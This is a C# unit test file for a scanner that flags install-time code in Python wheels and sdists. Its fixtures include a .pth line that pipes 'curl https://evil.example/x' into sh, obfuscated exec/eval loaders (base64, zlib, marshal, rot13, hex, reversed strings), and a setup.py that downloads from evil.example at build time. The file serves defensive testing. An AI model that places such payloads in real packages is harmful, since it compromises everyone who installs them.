using System.Text;
using Gatehouse.Scans;
using Gatehouse.Scans.Archives;
using static Gatehouse.Core.Tests.Scans.Archives.TestArchives;
using Rules = Gatehouse.Scans.Archives.InstallTimeCode.Rules;

namespace Gatehouse.Core.Tests.Scans.Archives;

public class InstallTimeCodeTests
{
    private const string WheelName = "demo-1.0-py3-none-any.whl";
    private const string SdistName = "demo-1.0.tar.gz";
    private const string PthPayload = "import os; os.system('curl https://evil.example/x | sh')";
    private const string ObfuscatedExec = "import base64\nexec(base64.b64decode('cHJpbnQoInB3bmVkIik='))\n";

    /// <summary>The check on the content alone: <paramref name="fileName"/> only labels the case, since wheels are told by content.</summary>
    private static async Task<IReadOnlyList<Finding>> InspectAsync(Stream archive, string fileName)
    {
        _ = fileName;
        return (await InstallTimeCode.InspectAsync(archive, CancellationToken.None)).Findings;
    }

    [Fact]
    public async Task A_wheel_is_told_by_its_top_level_dist_info_WHEEL_and_judged_by_wheel_rules_whatever_its_name()
    {
        var (isWheel, findings) = await InstallTimeCode.InspectAsync(Wheel(("demo.pth", $"{PthPayload}\n")), CancellationToken.None);
        Assert.True(isWheel);
        Assert.Equal(Severity.Dangerous, SingleFinding(findings, Rules.PthExec).Severity);

        // The same members without WHEEL are no wheel: an installer would not install them as one, so sdist rules apply.
        var notAWheel = Zip([.. CleanWheelMembers.Where(m => !m.Path.EndsWith("/WHEEL", StringComparison.Ordinal)), ("demo.pth", $"{PthPayload}\n")]);
        var (plain, plainFindings) = await InstallTimeCode.InspectAsync(notAWheel, CancellationToken.None);
        Assert.False(plain);
        Assert.Equal(Severity.Suspicious, SingleFinding(plainFindings, Rules.PthExec).Severity);
    }

    private static Finding SingleFinding(IReadOnlyList<Finding> findings, string rule) => Assert.Single(findings, f => f.Rule == rule);

    [Fact]
    public async Task A_clean_wheel_has_no_findings()
    {
        Assert.Empty(await InspectAsync(Wheel(), WheelName));
    }

    [Fact]
    public async Task A_clean_sdist_has_no_findings()
    {
        Assert.Empty(await InspectAsync(Sdist(), SdistName));
    }

    [Fact]
    public async Task Content_that_is_no_archive_is_left_to_archive_safety()
    {
        Assert.Empty(await InspectAsync(new MemoryStream(Incompressible(1000)), WheelName));
    }

    [Fact]
    public async Task A_pth_line_starting_with_import_at_the_wheel_root_is_dangerous()
    {
        var findings = await InspectAsync(Wheel(("demo-init.pth", $"{PthPayload}\n")), WheelName);
        var finding = SingleFinding(findings, Rules.PthExec);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo-init.pth", finding.Path);
        Assert.Contains("line 1", finding.Message);
        Assert.Contains("os.system", finding.Message);
    }

    [Fact]
    public async Task A_pth_line_starting_with_import_and_a_tab_is_dangerous()
    {
        var findings = await InspectAsync(Wheel(("demo.pth", "./lib\r\nimport\tos;os.system('x')\r\n")), WheelName);
        var finding = SingleFinding(findings, Rules.PthExec);
        Assert.Contains("line 2", finding.Message);
    }

    [Fact]
    public async Task A_pth_with_only_path_lines_and_comments_is_fine()
    {
        var findings = await InspectAsync(Wheel(("demo.pth", "# vendored copies\n./vendor\nlib/extra\n\n#import os\n  import os\nimportlib_stuff\n")), WheelName);
        Assert.Empty(findings);
    }

    [Theory]
    [InlineData("demo-1.0.data/purelib/x.pth")]
    [InlineData("demo-1.0.data/platlib/x.pth")]
    public async Task A_pth_in_the_wheel_data_lib_folders_lands_in_site_packages_and_is_dangerous(string path)
    {
        var finding = SingleFinding(await InspectAsync(Wheel((path, $"{PthPayload}\n")), WheelName), Rules.PthExec);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal(path, finding.Path);
    }

    [Theory]
    [InlineData("demo/hooks.pth")] // inside a package folder of the wheel
    [InlineData("demo-1.0.data/purelib/demo/hooks.pth")] // installs to site-packages/demo/hooks.pth, where site.py never looks
    [InlineData("demo-1.0.data/scripts/x.pth")] // the wheel's scripts folder
    public async Task A_pth_where_site_does_not_read_it_is_fine(string path)
    {
        Assert.Empty(await InspectAsync(Wheel((path, $"{PthPayload}\n")), WheelName));
    }

    [Fact]
    public async Task A_pth_with_an_import_line_in_an_sdist_is_suspicious()
    {
        var finding = SingleFinding(await InspectAsync(Sdist(("demo-1.0/demo.pth", $"{PthPayload}\n")), SdistName), Rules.PthExec);
        Assert.Equal(Severity.Suspicious, finding.Severity);
    }

    [Theory]
    // site.py reads .pth files with universal newlines (3.12 and before) or str.splitlines (3.13+): a lone "\r" ends a line.
    [InlineData("./lib\r" + PthPayload + "\r")]
    // Python 3.13+ splits .pth files with str.splitlines, which also breaks at \v, \f, \x1c-\x1e, \x85, U+2028 and U+2029.
    [InlineData("./lib\f" + PthPayload + "\n")]
    // Python 3.13+ decodes .pth files as utf-8-sig, so a byte order mark is dropped before the "import" test.
    [InlineData("\uFEFF" + PthPayload + "\n")]
    public async Task A_pth_import_line_that_python_sees_as_a_line_start_is_dangerous(string content)
    {
        var findings = await InspectAsync(Wheel(("demo.pth", content)), WheelName);
        Assert.Equal(Severity.Dangerous, SingleFinding(findings, Rules.PthExec).Severity);
    }

    [Fact]
    public async Task A_pth_import_line_after_a_megabyte_of_path_lines_is_dangerous()
    {
        // site.py executes every line of the file, however long; the padding is hex so it does not look like a bomb.
        var padding = new StringBuilder();
        var random = Incompressible(600 * 1024);
        for (var i = 0; i < random.Length; i += 32)
        {
            padding.Append("/nonexistent/").Append(Convert.ToHexStringLower(random, i, 32)).Append('\n');
        }
        Assert.True(padding.Length > 1024 * 1024);
        var findings = await InspectAsync(Wheel(("demo.pth", $"{padding}{PthPayload}\n")), WheelName);
        Assert.Equal(Severity.Dangerous, SingleFinding(findings, Rules.PthExec).Severity);
    }

    [Theory]
    [InlineData("sitecustomize.py")]
    [InlineData("usercustomize.py")]
    [InlineData("demo-1.0.data/purelib/sitecustomize.py")]
    public async Task A_sitecustomize_or_usercustomize_at_the_wheel_root_or_in_purelib_is_dangerous(string path)
    {
        var finding = SingleFinding(await InspectAsync(Wheel((path, "import os\n")), WheelName), Rules.SiteCustomize);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal(path, finding.Path);
    }

    [Fact]
    public async Task A_sitecustomize_module_inside_the_package_is_fine()
    {
        Assert.DoesNotContain(await InspectAsync(Wheel(("demo/sitecustomize.py", "x = 1\n")), WheelName), f => f.Rule == Rules.SiteCustomize);
    }

    [Fact]
    public async Task A_native_library_at_the_wheel_root_that_is_not_the_packages_is_a_foreign_binary()
    {
        const string path = "payload.cpython-312-x86_64-linux-gnu.so";
        var finding = SingleFinding(await InspectAsync(Wheel((path, "\u007fELF")), WheelName), Rules.ForeignBinary);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal(path, finding.Path);
    }

    [Fact]
    public async Task A_native_library_inside_the_packages_own_folder_is_fine()
    {
        Assert.Empty(await InspectAsync(Wheel(("demo/_speedups.cpython-312-x86_64-linux-gnu.so", "\u007fELF")), WheelName));
    }

    [Fact]
    public async Task A_root_extension_module_listed_in_top_level_txt_is_fine()
    {
        var wheel = Zip(
            ("_demo_ext.cpython-312-x86_64-linux-gnu.so", "\u007fELF"),
            ("demo-1.0.dist-info/METADATA", "Name: demo\n"),
            ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp312-cp312-linux_x86_64\n"),
            ("demo-1.0.dist-info/top_level.txt", "_demo_ext\n"));
        Assert.Empty(await InspectAsync(wheel, WheelName));
    }

    [Fact]
    public async Task Bytecode_without_its_source_is_reported()
    {
        var finding = SingleFinding(await InspectAsync(Wheel(("demo/hidden.pyc", "\u00a7\r\r\n")), WheelName), Rules.BytecodeWithoutSource);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("demo/hidden.pyc", finding.Path);
    }

    [Theory]
    [InlineData("demo/core.pyc")]
    [InlineData("demo/__pycache__/core.cpython-312.pyc")]
    public async Task Bytecode_next_to_its_source_is_fine(string path)
    {
        Assert.Empty(await InspectAsync(Wheel((path, "\u00a7\r\r\n")), WheelName));
    }

    [Fact]
    public async Task Bytecode_at_the_wheel_root_is_a_foreign_binary()
    {
        Assert.Contains(await InspectAsync(Wheel(("loader.pyc", "\u00a7\r\r\n")), WheelName), f => f.Rule == Rules.ForeignBinary);
    }

    [Fact]
    public async Task Decoded_exec_in_an_sdists_setup_py_is_suspicious()
    {
        var sdist = Sdist(("demo-1.0/setup.py", "from setuptools import setup\n" + ObfuscatedExec + "setup(name='demo')\n"));
        var finding = SingleFinding(await InspectAsync(sdist, SdistName), Rules.ObfuscatedExec);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("demo-1.0/setup.py", finding.Path);
        Assert.NotNull(finding.Offset);
    }

    [Fact]
    public async Task Decoded_exec_inside_the_wheels_own_package_is_only_noted()
    {
        var finding = SingleFinding(await InspectAsync(Wheel(("demo/_loader.py", ObfuscatedExec)), WheelName), Rules.ObfuscatedExec);
        Assert.Equal(Severity.Info, finding.Severity);
    }

    [Fact]
    public async Task Decoded_exec_in_a_stray_module_at_the_wheel_root_is_suspicious()
    {
        var finding = SingleFinding(await InspectAsync(Wheel(("_stray.py", ObfuscatedExec)), WheelName), Rules.ObfuscatedExec);
        Assert.Equal(Severity.Suspicious, finding.Severity);
    }

    [Theory]
    [InlineData("exec(zlib.decompress(blob))")]
    [InlineData("eval(compile(marshal.loads(data), '<x>', 'exec'))")]
    [InlineData("exec(codecs.decode('vzcbeg bf', 'rot13'))")]
    [InlineData("exec(bytes.fromhex('7072696e7428317329'))")]
    [InlineData("exec('))1(tnirp'[::-1])")]
    public async Task Every_decoder_feeding_exec_or_eval_is_recognised(string line)
    {
        var sdist = Sdist(("demo-1.0/setup.py", $"import zlib, marshal, codecs\n{line}\n"));
        Assert.Contains(await InspectAsync(sdist, SdistName), f => f.Rule == Rules.ObfuscatedExec);
    }

    [Fact]
    public async Task A_long_encoded_blob_next_to_exec_is_suspicious()
    {
        var blob = Convert.ToBase64String(Incompressible(4000));
        var sdist = Sdist(("demo-1.0/setup.py", $"PAYLOAD = '{blob}'\nexec(decode(PAYLOAD))\n"));
        Assert.Equal(Severity.Suspicious, SingleFinding(await InspectAsync(sdist, SdistName), Rules.ObfuscatedExec).Severity);
    }

    [Fact]
    public async Task Setup_py_that_downloads_at_build_time_is_reported()
    {
        var sdist = Sdist(("demo-1.0/setup.py", "import urllib.request\nurllib.request.urlopen('https://evil.example/x').read()\nfrom setuptools import setup\nsetup()\n"));
        var finding = SingleFinding(await InspectAsync(sdist, SdistName), Rules.SetupNetwork);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("demo-1.0/setup.py", finding.Path);
    }

    [Fact]
    public async Task Network_code_in_a_module_that_is_not_setup_py_is_fine()
    {
        var sdist = Sdist(("demo-1.0/demo/client.py", "import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n"));
        Assert.Empty(await InspectAsync(sdist, SdistName));
    }
}
